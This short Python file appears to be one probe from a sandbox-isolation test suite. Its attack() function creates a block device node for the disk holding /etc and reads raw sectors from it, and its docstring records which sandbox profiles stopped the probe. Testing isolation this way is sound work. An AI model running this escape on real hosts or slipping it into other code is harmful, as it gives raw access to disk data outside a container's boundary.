"""Makes a device file of the disk in its own folder and reads the disk.

Seen: an answer: it read from the disk.
Stopped at: strict, standard.
Works: as root, where devices are not limited.
Verdict: raised.
"""
import os
import stat


def attack():
    number = os.stat("/etc").st_dev
    os.mknod("disk", stat.S_IFBLK | 0o600, number)
    fd = os.open("disk", os.O_RDONLY)
    return len(os.read(fd, 512)) == 512
